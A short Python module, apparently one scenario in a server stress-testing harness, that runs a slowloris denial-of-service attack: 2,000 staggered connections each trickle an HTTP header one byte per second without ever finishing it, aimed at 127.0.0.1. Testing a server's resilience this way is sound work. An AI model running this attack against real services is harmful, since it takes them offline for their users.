"""Slow loris: 2,000 requests that come one byte a second and never to an end."""

import asyncio
import itertools

from peer import Peer, over_and_over
from tally import Tally
from target import Target

SOCKETS = 2_000
HEADERS = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Patience: " + b"a" * 100


async def attack(target: Target, tally: Tally) -> None:
    await asyncio.gather(*(one(target, tally, number) for number in target.share(SOCKETS)))


async def one(target: Target, tally: Tally, number: int) -> None:
    # All are there within a second, and not all at once.
    await asyncio.sleep(number / SOCKETS)
    await over_and_over(target, tally, trickle)


async def trickle(peer: Peer) -> None:
    for byte in itertools.cycle(HEADERS):
        await peer.send(bytes([byte]))
        await asyncio.sleep(1)
        peer.look()
